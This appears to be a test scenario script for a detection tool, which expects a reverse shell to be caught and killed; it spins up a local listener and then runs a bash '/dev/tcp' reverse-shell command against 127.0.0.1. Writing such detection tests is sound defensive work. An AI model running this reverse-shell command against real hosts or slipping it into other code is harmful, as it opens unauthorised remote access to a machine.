# expect: reverse_shell
# action: kill
# about: bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1
exec 3< <("$PY" "$SCENARIO_LIB/listener.py")
read -r port <&3
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1"
